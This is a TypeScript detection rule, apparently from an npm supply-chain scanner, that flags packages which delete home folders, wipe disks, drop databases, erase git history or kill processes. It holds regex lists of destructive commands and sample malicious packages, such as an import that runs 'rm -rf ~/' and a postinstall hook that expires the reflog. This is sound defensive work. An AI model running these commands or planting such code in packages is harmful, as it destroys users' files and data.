import { HOLE } from '../lib/types.ts'
import type { Action, Fact, Inspection, Rule } from '../lib/types.ts'
import { guardsInWords, isHiding } from './behaviour/guards.ts'
import { oncePerLine } from './behaviour/once.ts'
import { sweepOf, waits } from './behaviour/swept.ts'
import type { Sweep } from './behaviour/swept.ts'
import { isProgram, slashes, unasked } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** A folder whose loss is the loss of everything: home, root, a drive, the project. */
const wide =
  /^(?:~|\/|[a-z]:\/?|%userprofile%|%homepath%|\/home|\/Users|\/root|\/etc|\/usr|\/var|\/mnt)(?:\/(?:\*|\.\[!?\.?\]\*|\.\*))?\/?$/i

/** The history of the project, or its sources. */
const kept = /^<project>\/(?:\.git|src)\/?(?:\*|\u0001)?$/

const wiping =
  /\brm\s+(?:-[a-z-]+\s+)*(?:--no-preserve-root\s+)?["']?(?:~|\/|\$HOME|\$\{HOME\}|\/home|\/Users|\/etc|\/usr)(?:\/\*?)?["']?(?:\s|$|;|&)|\b(?:rd|rmdir)\s+\/s\b.*(?:%userprofile%|[a-z]:\\(?:\s|"|$))|\bdel\s+\/[fsq](?:\s+\/[fsq])*\s+\S*(?:%userprofile%|[a-z]:\\)|\bformat\s+[a-z]:|\bmkfs\.|\bdd\s+if=\/dev\/(?:zero|urandom|random)\s+of=\/dev\/|\bcipher\s+\/w|\bvssadmin\s+delete\s+shadows|\bwbadmin\s+delete\b|\bbcdedit\b.{0,80}\brecoveryenabled\s+no\b|\bwmic\s+shadowcopy\s+delete\b|\bdiskpart\b.{0,200}\bclean\b|\bblkdiscard\s|\bwipefs\s+-|\bshred\s+(?:-\S+\s+)*(?:~|\/|\$HOME)|:\(\)\s*\{\s*:\|:&\s*\};:/i

/** Everything where the program that uses the package was started. */
const wipingHere =
  /^\s{0,9}rm\s+-[a-z]*r[a-z]*\s+(?:-\S+\s+)*["']?(?:\.|\*|\.\/\*?)["']?\s{0,9}$|^\s{0,9}(?:rd|rmdir)\s+\/s\s+(?:\/q\s+)?\.\s{0,9}$|^\s{0,9}del\s+(?:\/[a-z]\s+)*\*(?:\.\*)?\s{0,9}$/i

/** Machines, clusters and data that somebody else keeps for the user. */
const remoteWiping =
  /\bkubectl\s+delete\b.{0,200}\s--all\b|\bdocker\s+(?:system|volume)\s+prune\b.{0,100}(?:\s-[a-z]*f|--force)|\b(?:terraform|tofu|pulumi|cdk|terragrunt)\s+destroy\b|\baws\s+s3\s+(?:rb\b.{0,200}--force|rm\b.{0,200}--recursive)|\bgcloud\s+projects\s+delete\b|\bgsutil\s+(?:-m\s+)?rm\s+-r|\baz\s+group\s+delete\b|\bhelm\s+(?:uninstall|delete)\b|\bdropdb\s|\bredis-cli\b.{0,100}\bflush(?:all|db)\b|\b(?:psql|mysql|mongosh?|sqlcmd)\b.{0,200}\bdrop(?:\s+(?:database|schema)|Database\s*\()/i

/** What git then cannot bring back. */
const historyWiping =
  /\bgit\b.{0,80}\s(?:reset\s+--hard|clean\s+-[a-z]*f|checkout\s+(?:--\s+)?\.(?:\s|$)|update-ref\s+-d|reflog\s+expire\b.{0,80}--expire(?:-unreachable)?=(?:now|all)|filter-branch|filter-repo|branch\s+-D|stash\s+(?:clear|drop)|push\b.{0,80}\s(?:--mirror|--delete|--prune|--force\b|-f\b))|\brm\s+-[a-z]*r[a-z]*\s+["']?(?:[^\s"']{0,80}\/)?\.git["']?(?:\s|$|;|&)/

/** A container that is given the machine's root folder. */
const wholeDisk =
  /\b(?:docker|podman|nerdctl)\s+run\b.{0,300}(?:\s(?:-v|--volume)[ =]?["']?\/:\/|\bsource=\/,|\bsrc=\/,)/

/** Programs of the user that are ended by their names. */
const killing = /\b(?:pkill|killall)\s+(?:-\S+\s+)*[\w\u0001]|\btaskkill\b.{0,80}\s\/im\s/i

const stopping = /\bshutdown(?:\.exe)?\s+[-/][a-z]|\bpoweroff\b|\breboot\b|\binit\s+0\b/i

/** Work that is destroyed. */
export const destructive: Rule = {
  meta: {
    id: 'destructive',
    title: 'Deletes or overwrites what is not its own',
    severity: 'critical',
    description:
      'The code goes from folder to folder and deletes, empties, overwrites, encrypts or renames what it finds; tells a ' +
      'database, a cluster or a repository to forget what it holds; deletes the home folder or the whole disk; turns the machine ' +
      'off or ends other programs; or replaces, from a day on, what other programs write files with. Clean-up tools, formatters, ' +
      'migrations and release tools do such things with what is their user’s when their user says so, and wait for no day.',
    references: [
      'node-ipc 10.1.1 (2022): files overwritten by country',
      'Shai-Hulud 2 (November 2025): the home folder wiped when nothing could be stolen',
    ],
    blindSpots: [
      'Endless loops that call what may end them.',
      'Paths that are computed; one folder that is listed, but not the folders in it.',
      'Permissions that are taken away. What a page shows its reader.',
      'Clients of clusters and clouds other than the modelled ones.',
    ],
    examples: {
      flags: [
        {
          title: 'an import deletes the home folder',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': "require('child_process').exec('rm -rf ~/')\n",
          },
        },
        {
          title: 'an import empties every file of the project',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, '')\n  }\n}\neach(process.cwd())\n",
          },
        },
        {
          title: 'an import drops a schema from a day on',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { Client } = require('pg')\nconst db = new Client(process.env.DATABASE_URL)\nif (Date.now() > 1798761600000) db.connect().then(() => db.query('DROP SCHEMA public CASCADE'))\n",
          },
        },
        {
          title: 'a hook throws the history of the project away',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"cd $INIT_CWD && git update-ref -d HEAD && git reflog expire --expire=now --all"}}',
          },
        },
      ],
      passes: [
        {
          title: 'a clean-up command deletes build output',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":{"a":"cli.js"}}',
            'cli.js': "#!/usr/bin/env node\nrequire('fs').rmSync('dist', { recursive: true, force: true })\n",
          },
        },
        {
          title: 'a command formats every file of the project, and a test empties its database',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js","main":"i.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, fs.readFileSync(file, 'utf8').trimEnd() + '\\n')\n  }\n}\neach(process.cwd())\n",
            'i.js':
              "const { Client } = require('pg')\nexports.reset = async url => new Client(url).query('DROP SCHEMA public CASCADE')\n",
          },
        },
      ],
    },
  },
  check(inspection) {
    return oncePerLine([
      ...inspection.facts.flatMap(fact => ofFact(fact, inspection)),
      ...inspection.facts.flatMap(fact => ofSweep(fact, inspection)),
    ])
  },
}

function report(fact: Fact, act: string): readonly RuleFinding[] {
  const action: Action = unasked(fact) ? 'block' : 'ask'
  const message =
    `${opening(fact)} ${act}${guardsInWords(fact.guards)}. ` +
    'There is no reason for a package to do that. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

function ofFact(fact: Fact, inspection: Inspection): readonly RuleFinding[] {
  if (fact.kind === 'deletes') {
    if (fact.paths.some(path => path.startsWith(database))) return ofDatabase(fact)
    // A command the user started deletes what the user named; a bare `/` beside other paths is a part that was unknown.
    if (!unasked(fact))
      return fact.byCall || fact.phase !== 'run' || !fact.paths.includes('~')
        ? []
        : report(fact, 'deletes the whole home folder')
    const path = fact.paths
      .map(slashes)
      .find(one => (wide.test(one) && (one !== '/' || fact.paths.length === 1)) || kept.test(one))
    return path === undefined ? [] : report(fact, `deletes ${quote(path)}`)
  }
  if (fact.kind === 'stops') return ofStop(fact)
  if (fact.kind === 'patches') return ofPatch(fact)
  if (fact.kind !== 'starts') return []
  const command = fact.commands.find(one => wiping.test(one))
  if (command !== undefined)
    return report(fact, `runs ${quote(command)}, which deletes far more than its own files`)
  const project = fact.commands.find(one => wipingHere.test(one))
  if (project !== undefined && (unasked(fact) || serves(fact, inspection)))
    return report(fact, `runs ${quote(project)}, which deletes the folder of whoever runs it`)
  const remote = unasked(fact) || waits(fact) ? fact.commands.find(one => remoteWiping.test(one)) : undefined
  if (remote !== undefined)
    return report(fact, `runs ${quote(remote)}, which deletes data or machines that are not its own`)
  const history =
    unasked(fact) || waits(fact) ? fact.commands.find(one => historyWiping.test(one)) : undefined
  if (history !== undefined && !clones(fact, inspection))
    return report(fact, `runs ${quote(history)}, which throws away work in the repository it runs in`)
  const held = unasked(fact) ? fact.commands.find(one => wholeDisk.test(one)) : undefined
  if (held !== undefined)
    return report(fact, `starts a container that may change the whole disk (${quote(held)})`)
  const killed = unasked(fact) ? fact.commands.find(one => killing.test(one)) : undefined
  if (killed !== undefined) {
    const message = `${opening(fact)} ends other programs of the user (${quote(killed)})${guardsInWords(fact.guards)}. Do not install it.`
    return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
  }
  const stop = unasked(fact) ? fact.commands.find(one => stopping.test(one)) : undefined
  return stop === undefined ? [] : report(fact, `turns the machine off (${quote(stop)})`)
}

/** Whether what it does may be what somebody asks of a server of it. */
function serves({ at, byCall, phase }: Fact, inspection: Inspection): boolean {
  return (
    (byCall || phase === 'run') &&
    inspection.facts.some(other => other.kind === 'listens' && other.at.path === at.path)
  )
}

/** Whether the same file first makes the repository it then sets back: a build fetches sources that way. */
function clones({ at }: Fact, inspection: Inspection): boolean {
  return inspection.facts.some(
    other =>
      other.kind === 'starts' &&
      other.at.path === at.path &&
      other.commands.some(command => /\bgit\b.{0,80}\s(?:clone|init|submodule)\b/.test(command)),
  )
}

const database = 'database: '

/** Data of programs is emptied by migrations and tests, which somebody starts. */
function ofDatabase(fact: Extract<Fact, { kind: 'deletes' }>): readonly RuleFinding[] {
  if (!unasked(fact) && !waits(fact)) return []
  const what = (fact.paths.find(path => path.startsWith(database)) ?? '').slice(database.length)
  const whole =
    /^(?:delete(?:bucket|objects|table|dbinstance)command|terminateinstances|drop (?:database|schema|owned)|drop(?:database|schema|allschemas|alltables)|flush)/i.test(
      what,
    )
  const action: Action = unasked(fact) && whole ? 'block' : 'ask'
  const message =
    `${opening(fact)} tells a database to forget its data (${quote(what)})${guardsInWords(fact.guards)}. ` +
    'Nobody asked for that. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** Functions that whole programs rely on to keep what they write. */
const keeping =
  /^node:fs(?:\.promises)?\.(?:writeFile|writeFileSync|appendFile|appendFileSync|write|writeSync|rename|renameSync|copyFile|copyFileSync|createWriteStream)$/

/** From a day on, or on some machines only, what other programs write goes another way: sabotage waits. */
function ofPatch(fact: Extract<Fact, { kind: 'patches' }>): readonly RuleFinding[] {
  if (!unasked(fact)) return []
  if (fact.api.endsWith('chance')) {
    const message =
      `${opening(fact)} replaces ${quote(fact.target)}, on which every program relies, by code that acts by chance or by ` +
      'the calendar. What other programs then get is wrong now and then, and nobody finds out why. Do not install it.'
    return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
  }
  if (!keeping.test(fact.target)) return []
  if (!fact.guards.some(({ kind }) => kind === 'time' || kind === 'locale' || kind === 'user')) return []
  const message =
    `${opening(fact)} replaces ${quote(fact.target.slice(5))}${guardsInWords(fact.guards)}: what any program then writes ` +
    `passes through code of this package. Read what it makes of it before you install it.`
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}

const stoppings = {
  'endless-loop': 'enters a loop that nothing leaves',
  'parent-process': 'ends the process that started it, which is npm or its caller',
  'own-process': 'kills the program it runs in',
} as const

/** Sabotage: whoever installs or imports it waits for ever, or loses the program that does. */
function ofStop(fact: Extract<Fact, { kind: 'stops' }>): readonly RuleFinding[] {
  if (!unasked(fact)) return []
  const act = stoppings[fact.what]
  const message = `${opening(fact)} ${act}${guardsInWords(fact.guards)}. Whatever uses it stops working. Do not install it.`
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}

const acts: Readonly<Record<Sweep['how'], string>> = {
  deletes: 'deletes what it finds',
  empties: 'empties every file it finds',
  overwrites: 'overwrites what it finds',
  encrypts: 'encrypts what it finds',
  rewrites: 'changes what it finds',
  renames: 'renames what it finds',
  moves: 'moves away what it finds',
}

/** Files that are found, one after the other, and none of them is spared. */
function ofSweep(fact: Fact, inspection: Inspection): readonly RuleFinding[] {
  if (fact.kind !== 'writes' && fact.kind !== 'deletes') return []
  if (fact.kind === 'writes' && unasked(fact) && isBlanked(fact))
    return report(fact, `replaces ${quote(fact.paths[0] ?? '')} of the project by nothing`)
  const hides = isHiding(fact.guards) || contactsLookup(inspection)
  const sweep = sweepOf(fact, inspection, hides)
  if (sweep === undefined) return []
  const action = isProgram(fact, inspection) && !hides ? weighProgram(sweep) : weighSweep(fact, sweep, hides)
  if (action === undefined) return []
  const content = sweep.content === undefined ? '' : ` with ${quote(sweep.content.trim(), 30)}`
  const message =
    `${opening(fact)} goes through folder after folder and ${acts[sweep.how]}${content} (${quote(sweep.path)})` +
    `${guardsInWords(fact.guards)}. There is no reason for a package to do that. Do not install it.`
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** What a project cannot do without, with nothing in it. While npm installs, a bare name is the package's own file. */
function isBlanked(fact: Extract<Fact, { kind: 'writes' }>): boolean {
  const own = fact.phase === 'install' ? /^<project>\// : /^(?:<project>\/|\.\/)?/
  return (
    fact.contents.length > 0 &&
    fact.contents.every(text => /^\s*(?:\{\s*\}|\[\s*\])?\s*$/.test(text)) &&
    fact.paths.some(path => own.test(path) && /^(?:<project>\/|\.\/)?package\.json$/.test(path))
  )
}

function weighSweep(fact: Fact, { how, extent, path }: Sweep, hides: boolean): Action | undefined {
  if (unasked(fact)) return extent === 'all' || hides || how === 'encrypts' ? 'block' : 'ask'
  if (extent !== 'all' || how === 'rewrites' || how === 'renames' || how === 'moves') return undefined
  // What a command does with the files of its user is its work; not on a day or in a country of its choice.
  const own = path.startsWith('<project>')
  // One function writes the files of a template, and some of their names are known: those it writes, it does not find.
  const names =
    fact.kind === 'writes' && fact.paths.some(one => /[\w-]\.\w{1,8}$/.test(one) && !one.includes(HOLE))
  if (own && how === 'overwrites' && names && !waits(fact)) return undefined
  // Files that are old enough are looked for by the clock as well.
  if (own && how === 'deletes') return undefined
  if (waits(fact)) return fact.byCall || own ? 'ask' : 'block'
  return how === 'empties' || how === 'overwrites' ? 'ask' : undefined
}

/** A package that is nothing but its command names it as its main file too; that command fills a folder for its user. */
function weighProgram({ how, extent }: Sweep): Action | undefined {
  if (how === 'rewrites' || how === 'renames' || how === 'moves') return undefined
  return extent === 'all' || how === 'encrypts' ? 'block' : 'ask'
}

function contactsLookup(inspection: Inspection): boolean {
  return inspection.facts.some(
    fact =>
      fact.kind === 'contacts' &&
      fact.destinations.some(text => /\bip(?:geo|info|api|ify|lookup|who)|geoip|freegeo/i.test(text)),
  )
}
